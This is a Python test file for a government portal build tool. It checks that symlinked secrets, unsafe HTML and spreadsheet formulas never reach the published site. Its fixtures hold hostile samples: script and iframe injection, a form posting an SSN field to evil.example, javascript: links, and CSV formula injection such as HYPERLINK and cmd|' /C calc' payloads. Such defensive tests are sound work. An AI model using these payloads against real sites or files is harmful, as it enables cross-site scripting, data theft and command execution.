"""Untrusted content in real builds: nothing outside the content folder, no unsafe HTML,
no live spreadsheet formulas is ever published."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Callable
from pathlib import Path

from govportal.build import build
from govportal.content import load_content
from govportal.content.html_policy import check_markdown
from govportal.mkdocs.engine import render
from govportal.model.form import FormsSettings
from tests.commands import invoke
from tests.conftest import TODAY

Edit = Callable[[Path, str, str], None]
SERVICE = "content/services/parks/reserve-a-campsite.md"
HOSTILE = """Arrive after 2 p.m.

<script>alert("body")</script>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/collect"><input name="ssn"><button>Send</button></form>

[Renew](javascript:alert(1)) and [pay](https://parks.example.gov/pay){: onclick="steal()" style="display:none" }

<p style="color:white">Hidden fee</p> <img src="data:image/png;base64,AAAA" alt="pixel">
"""


def test_validate_and_build_refuse_symlinks_and_publish_nothing(project: Path, tmp_path: Path, edit: Edit) -> None:
    (tmp_path / "secret.txt").write_text("build machine secret")
    (project / "content/forms").mkdir()
    (project / "content/forms/x.pdf").symlink_to(tmp_path / "secret.txt")
    edit(project / "site.yml", "theme:\n", "theme:\n  custom_dir: overrides\n")
    (project / "overrides/assets").mkdir(parents=True)
    (project / "overrides/assets/leak").symlink_to(tmp_path, target_is_directory=True)
    for command in (["validate"], ["build", "--no-gate"]):
        result = invoke(project, *command)
        assert result.exit_code == 1
        assert "error: content/forms/x.pdf: is a symbolic link;" in result.stderr
        assert "error: overrides/assets/leak: is a symbolic link;" in result.stderr
    assert not (project / "site").exists()


def test_build_refuses_raw_html_that_is_not_safe(project: Path) -> None:
    path = project / SERVICE
    path.write_text(path.read_text(encoding="utf-8").replace("Arrive after 2 p.m.\n", HOSTILE), encoding="utf-8")
    report = build(project / "site.yml")
    assert not report.ok and not (project / "site").exists()
    lines = {int(f.field.removeprefix("line ")) for f in report.findings if f.path == "content/services/parks/reserve-a-campsite.md"}
    assert len(lines) == 5


def test_rendered_pages_are_sanitised_even_when_validation_is_skipped(project: Path, tmp_path: Path) -> None:
    """The sanitiser alone, on a real render: services from the model, other pages from disk."""
    content = load_content(project / "content", TODAY, FormsSettings()).content
    assert content is not None
    content.services[0] = dataclasses.replace(content.services[0], body=HOSTILE)
    (project / "content/privacy.md").write_text("---\ntitle: Privacy policy\n---\n\n# Privacy policy\n\n" + HOSTILE, encoding="utf-8")
    assert check_markdown(HOSTILE), "validation would refuse these pages"
    out = tmp_path / "out"
    render(project / "site.yml", out, content)
    for page in ("services/parks/reserve-a-campsite/index.html", "privacy/index.html"):
        html = (out / page).read_text(encoding="utf-8")
        body = html[html.index('<h1') :]
        assert "Hidden fee" in body and "Renew" in body
        for gone in ('alert("body")', "evil.example", 'name="ssn"', "javascript:alert", "steal()", "display:none", "color:white", "data:image"):
            assert gone not in body, (page, gone)


def test_published_csv_files_neutralise_formulas(project: Path, edit: Edit) -> None:
    edit(project / "content/agencies/parks.yml", "description: We run the state parks.", 'description: "=HYPERLINK(\\"https://evil.example\\",\\"Parks\\")"')
    edit(project / "content/agencies/parks.yml", "name: Visitor Services Manager", "name: \"@SUM(1+1)*cmd|' /C calc'!A0\"")
    edit(
        project / SERVICE,
        "last_reviewed: 2026-10-01",
        "forms:\n  - id: camp-1\n    title: \"+1+cmd|' /C calc'!A0\"\n    purpose: Use this form.\n    online_url: https://parks.example.gov/f\n"
        "    submit_offline: {mail: PO Box 1}\n    last_reviewed: 2026-09-01\nlast_reviewed: 2026-10-01",
    )
    edit(project / "site.yml", "allowed_hosts: [forms.example.gov, sign.example.gov]", "allowed_hosts: [parks.example.gov]")
    report = build(project / "site.yml")
    assert report.ok, report.findings
    [agency] = csv.DictReader(io.StringIO((project / "site/directory.csv").read_text(encoding="utf-8")))
    assert agency["description"] == "'=HYPERLINK(\"https://evil.example\",\"Parks\")"
    assert agency["customer_relations_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    [form] = csv.DictReader(io.StringIO((project / "site/forms.csv").read_text(encoding="utf-8")))
    assert form["title"] == "'+1+cmd|' /C calc'!A0"
